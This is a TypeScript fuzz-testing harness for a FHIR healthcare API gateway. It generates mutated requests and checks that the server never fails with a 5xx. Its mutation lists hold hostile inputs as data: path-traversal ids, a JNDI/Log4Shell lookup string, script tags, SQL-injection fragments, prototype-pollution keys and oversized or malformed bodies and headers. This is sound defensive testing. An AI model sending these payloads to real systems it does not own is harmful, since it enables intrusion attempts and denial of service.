/**
 * A bounded, seeded fuzz run against the gateway: valid requests mutated into hostile ones (odd methods, ids,
 * query strings, headers, bodies and Authorization headers), sent through any `send` (inject() in tests), with
 * every answer checked: no 5xx (input must never break the server) and every 4xx an OperationOutcome. Pure apart
 * from `send`; the same seed gives the same requests, so a failing run can be replayed.
 */

export interface FuzzRequest {
  method: string;
  url: string;
  /** An array value sends the header twice. */
  headers: Record<string, string | string[]>;
  payload?: string | Buffer;
}

export interface FuzzResponse {
  statusCode: number;
  body: string;
}

export type FuzzSend = (request: FuzzRequest) => Promise<FuzzResponse>;

export interface FuzzOptions {
  seed: number;
  count: number;
  /** Valid bearer tokens (several roles) the generator may put in requests. */
  tokens?: readonly string[];
}

export interface FuzzViolation {
  index: number;
  method: string;
  /** Cut to 160 characters. */
  url: string;
  status: number;
  reason: string;
}

export interface FuzzReport {
  seed: number;
  total: number;
  /** Answers by HTTP status, e.g. { "400": 612, "404": 201 }. */
  byStatus: Record<string, number>;
  violations: FuzzViolation[];
}

/** mulberry32: a tiny, well-mixed 32-bit PRNG; plenty for picking mutations, and reproducible from its seed. */
export function mulberry32(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

class Picker {
  constructor(readonly random: () => number) {}
  int(below: number): number {
    return Math.floor(this.random() * below);
  }
  pick<T>(items: readonly T[]): T {
    const item = items[this.int(items.length)];
    if (item === undefined) throw new RangeError('pick from an empty list');
    return item;
  }
  chance(probability: number): boolean {
    return this.random() < probability;
  }
  ascii(length: number): string {
    let text = '';
    for (let index = 0; index < length; index += 1) text += String.fromCharCode(32 + this.int(95));
    return text;
  }
  bytes(length: number): Buffer {
    const buffer = Buffer.alloc(length);
    for (let index = 0; index < length; index += 1) buffer[index] = this.int(256);
    return buffer;
  }
}

const METHODS = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS'];
const TYPES = [
  'Patient',
  'Observation',
  'Encounter',
  'Basic',
  'patient',
  'NotAType',
  'Bundle',
  '$everything',
];

function oddId(p: Picker): string {
  return p.pick([
    'p-1',
    'p-bob',
    '',
    '..%2F..%2Fadmin',
    'p-1%00',
    'a'.repeat(65),
    'a'.repeat(300),
    '%zz',
    '%C0%AE%C0%AE',
    encodeURIComponent('pätiënt'),
    encodeURIComponent('\u202Ep-1'),
    encodeURIComponent('${jndi:ldap://x/a}'),
    encodeURIComponent('<script>'),
    '.',
    '-',
    'p-1;drop',
    '%2e%2e',
    encodeURIComponent(p.ascii(1 + p.int(20))),
    '__proto__',
    'constructor',
  ]);
}

function oddQuery(p: Picker): string {
  return p.pick([
    '_count=-1',
    '_count=1e9',
    '_count=0',
    '_count=abc',
    '_count=10&_count=20',
    'patient=p-1&patient=p-2',
    `patient=${'p'.repeat(10_000)}`,
    `code=${'x'.repeat(5000)}`,
    'code=|||',
    '_page_token=%24%24%24',
    `_page_token=${p.ascii(40).replace(/[&#]/g, '')}`,
    '__proto__[admin]=1',
    'constructor[prototype][admin]=1',
    'patient[]=p-1',
    '&&&==',
    `${encodeURIComponent(p.ascii(10))}=${encodeURIComponent(p.ascii(10))}`,
    '_elements=name,birthDate&_include=*',
    'patient=Patient%2F..%2F..%2Fp-1',
  ]);
}

function deep(levels: number, array: boolean): string {
  return array
    ? `${'['.repeat(levels)}${']'.repeat(levels)}`
    : `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`;
}

function oddBody(p: Picker, valid: string): string | Buffer {
  return p.pick<() => string | Buffer>([
    () => valid.slice(0, p.int(valid.length)),
    () => p.bytes(1 + p.int(2048)),
    () => deep(100 + p.int(5000), p.chance(0.5)),
    () => `[${'1,'.repeat(20_000 + p.int(9000))}1]`,
    () => `{"resourceType":"Patient","__proto__":{"admin":true}}`,
    () => `{"resourceType":"Patient","constructor":{"prototype":{"admin":true}}}`,
    () => `{"resourceType":42,"id":{"x":1},"name":"Jane","meta":{"versionId":[1]},"address":7}`,
    () =>
      p.pick([
        '[]',
        'null',
        'true',
        '"Patient"',
        '1e999',
        '',
        '{}',
        '{"resourceType":"Bundle","type":"batch"}',
      ]),
    () =>
      Buffer.concat([
        Buffer.from('{"resourceType":"Patient","name":"'),
        Buffer.from([0xc3, 0x28, 0xff]),
        Buffer.from('"}'),
      ]),
    () => `\uFEFF${valid}`,
    () => '{"resourceType":"Patient","resourceType":"Observation"}',
    () =>
      '{"resourceType":"Bundle","type":"batch","entry":[' +
      '{"request":{"method":"DELETE","url":"Patient/p-1"}},'.repeat(50) +
      '{}]}',
    () =>
      `[{"op":"add","path":"/address/0/__proto__/x","value":1},{"op":"move","from":"/name","path":"/address"}]`,
  ])();
}

function oddContentType(p: Picker): string {
  return p.pick([
    'application/fhir+json',
    'application/json',
    'application/json-patch+json',
    'application/x-www-form-urlencoded',
    'text/plain',
    'application/json; charset=utf-16',
    'multipart/form-data; boundary=x',
    'application/fhir+json;;;',
    '///',
    'application/xml',
    p.ascii(1 + p.int(30)),
    `application/json; x=${'y'.repeat(4000)}`,
  ]);
}

interface Base {
  method: string;
  url: string;
  contentType?: string;
  body?: string;
}

function baseRequest(p: Picker): Base {
  const patient = JSON.stringify({
    resourceType: 'Patient',
    name: [{ family: 'Fuzz' }],
    birthDate: '1990-01-01',
  });
  return p.pick<Base>([
    { method: 'GET', url: '/fhir/Patient/p-1' },
    { method: 'GET', url: '/fhir/Observation?patient=p-1&_count=5' },
    { method: 'GET', url: '/fhir/Observation?code=8480-6' },
    { method: 'GET', url: '/fhir/Patient/p-1/_history' },
    { method: 'GET', url: '/fhir/Patient/p-1/$everything' },
    { method: 'GET', url: '/fhir/metadata' },
    { method: 'POST', url: '/fhir/Patient', contentType: 'application/fhir+json', body: patient },
    {
      method: 'PUT',
      url: '/fhir/Patient/p-1',
      contentType: 'application/fhir+json',
      body: JSON.stringify({ resourceType: 'Patient', id: 'p-1' }),
    },
    {
      method: 'PATCH',
      url: '/fhir/Patient/p-1',
      contentType: 'application/json-patch+json',
      body: '[{"op":"replace","path":"/address","value":[{"city":"X"}]}]',
    },
    {
      method: 'POST',
      url: '/fhir',
      contentType: 'application/fhir+json',
      body: JSON.stringify({
        resourceType: 'Bundle',
        type: 'batch',
        entry: [{ resource: JSON.parse(patient) as unknown, request: { method: 'POST', url: 'Patient' } }],
      }),
    },
    {
      method: 'POST',
      url: '/auth/token',
      contentType: 'application/x-www-form-urlencoded',
      body: 'grant_type=password&username=pat.bob&password=wrong-password',
    },
  ]);
}

/** One hostile request: a valid base with one to three mutations. */
export function generateRequest(random: () => number, tokens: readonly string[]): FuzzRequest {
  const p = new Picker(random);
  const base = baseRequest(p);
  let { method, url } = base;
  let payload: string | Buffer | undefined = base.body;
  const headers: Record<string, string | string[]> = {};
  if (base.contentType !== undefined) headers['content-type'] = base.contentType;
  const token = tokens.length > 0 ? p.pick(tokens) : 'none';
  headers.authorization = `Bearer ${token}`;
  const mutations = 1 + p.int(3);
  for (let step = 0; step < mutations; step += 1) {
    switch (p.int(9)) {
      case 0:
        method = p.pick(METHODS);
        break;
      case 1:
        url = `/fhir/${p.pick(TYPES)}/${oddId(p)}${p.chance(0.3) ? p.pick(['/_history', '/$everything', '/x/y']) : ''}`;
        break;
      case 2:
        url = `${url.split('?')[0] ?? url}?${oddQuery(p)}${p.chance(0.3) ? `&${oddQuery(p)}` : ''}`;
        break;
      case 3:
        headers['content-type'] = oddContentType(p);
        break;
      case 4:
        payload = oddBody(p, base.body ?? '{"resourceType":"Patient"}');
        headers['content-type'] ??= 'application/fhir+json';
        break;
      case 5:
        headers.authorization = p.pick<string | string[]>([
          '',
          'Bearer',
          `Bearer ${token.slice(0, p.int(token.length))}`,
          `bearer  ${token}`,
          [`Bearer ${token}`, `Bearer ${p.pick(tokens.length > 0 ? tokens : ['x'])}`],
          `Basic ${Buffer.from('pat.bob:bob-pw').toString('base64')}`,
          `Bearer ${'A'.repeat(20_000)}`,
          `Bearer ${p.ascii(40).replace(/[^ -~]/g, '')}`,
        ]);
        break;
      case 6:
        headers[p.pick(['if-match', 'x-request-id', 'accept', 'prefer', 'x-forwarded-for', 'x-junk'])] =
          p.pick(['W/"1"', '*', 'version 7; DROP TABLE', 'x'.repeat(20_000), p.ascii(1 + p.int(60))]);
        break;
      case 7:
        headers[`x-fuzz-${String(p.int(1000))}`] = 'y'.repeat(p.int(30_000));
        break;
      default:
        url = `${url}${url.includes('?') ? '&' : '?'}${oddQuery(p)}`;
    }
  }
  return {
    method,
    url,
    headers,
    ...(payload !== undefined && method !== 'GET' && method !== 'HEAD' ? { payload } : {}),
  };
}

/** Why an answer breaks the contract (5xx, or a 4xx that is not an OperationOutcome), or undefined. */
export function violationOf(request: FuzzRequest, response: FuzzResponse): string | undefined {
  if (response.statusCode >= 500) return `server error ${String(response.statusCode)}`;
  if (response.statusCode < 400 || request.method === 'HEAD') return undefined;
  let body: unknown;
  try {
    body = JSON.parse(response.body);
  } catch (error) {
    return `4xx body is not JSON (${error instanceof Error ? error.name : 'unknown'})`;
  }
  const outcome = body as { resourceType?: unknown; issue?: { code?: unknown }[] };
  if (outcome.resourceType !== 'OperationOutcome') return '4xx body is not an OperationOutcome';
  if (typeof outcome.issue?.[0]?.code !== 'string') return '4xx OperationOutcome without issue[0].code';
  return undefined;
}

export async function runFuzz(send: FuzzSend, options: FuzzOptions): Promise<FuzzReport> {
  const random = mulberry32(options.seed);
  const tokens = options.tokens ?? [];
  const byStatus: Record<string, number> = {};
  const violations: FuzzViolation[] = [];
  for (let index = 0; index < options.count; index += 1) {
    const request = generateRequest(random, tokens);
    let response: FuzzResponse;
    try {
      response = await send(request);
    } catch (error) {
      // A request the transport could not even send is a finding about the generator or the harness, reported.
      response = { statusCode: 0, body: error instanceof Error ? error.name : 'unknown' };
    }
    byStatus[String(response.statusCode)] = (byStatus[String(response.statusCode)] ?? 0) + 1;
    const reason = response.statusCode === 0 ? 'send failed' : violationOf(request, response);
    if (reason !== undefined) {
      violations.push({
        index,
        method: request.method,
        url: request.url.slice(0, 160),
        status: response.statusCode,
        reason,
      });
    }
  }
  return { seed: options.seed, total: options.count, byStatus, violations };
}
